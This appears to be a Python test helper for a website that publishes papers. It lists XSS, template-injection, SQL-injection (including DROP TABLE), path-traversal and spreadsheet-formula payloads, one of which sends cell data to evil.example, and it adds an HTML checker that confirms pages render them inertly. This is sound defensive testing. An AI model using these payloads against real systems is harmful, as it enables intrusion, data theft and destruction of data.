"""What a hostile paper prints and a hostile person types, and how a page is seen to have taken it as words."""

from __future__ import annotations

import re
from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser

ATTACKS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)><a href='javascript:alert(1)'>",
    "' onmouseover='alert(1)' x='",
    "{{ 7*7 }}{% raw %}<svg onload=alert(1)>",
    "]]></summary><entry>&bogus;\u2028\u202e",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
)
ATTACK = " ".join(ATTACKS)

VALUES = (
    "' OR 1=1 --",
    "1; DROP TABLE documents; --",
    '") UNION SELECT sql FROM sqlite_master --',
    "\x00",
    "²",
    "9" * 40,
    "-1",
    "../../../../etc/passwd",
    "\u202e\ud7ff",
    "a" * 20_000,
)
"""What is tried in every argument of the site and of the desk; each adds what concerns it alone."""


def no_foreign_markup(path: str, html: str) -> None:
    """Fails where ``html`` holds an element or attribute that no page of ours has."""
    tree = LexborHTMLParser(html)
    assert tree.css("script, iframe, object, embed, base, meta[http-equiv]") == [], path
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            assert not name.startswith("on"), (path, node.html)
            assert not re.match(r"\s*(?:javascript|data(?!:,)|vbscript):", value or "", re.IGNORECASE), (
                path,
                node.html,
            )
        assert node.tag != "img" or (node.attributes.get("src") or "").startswith("/"), (path, node.html)
    assert "49<svg" not in html.replace(" ", ""), "a template in a paper is not run"


def links(html: str) -> Iterator[str]:
    """The addresses of this site that a page names, without fragments."""
    for node in LexborHTMLParser(html).css("[href], [src], form[action]"):
        address = node.attributes.get("href") or node.attributes.get("src") or node.attributes.get("action") or ""
        if address.startswith("/") and not address.startswith("//"):
            yield address.partition("#")[0]
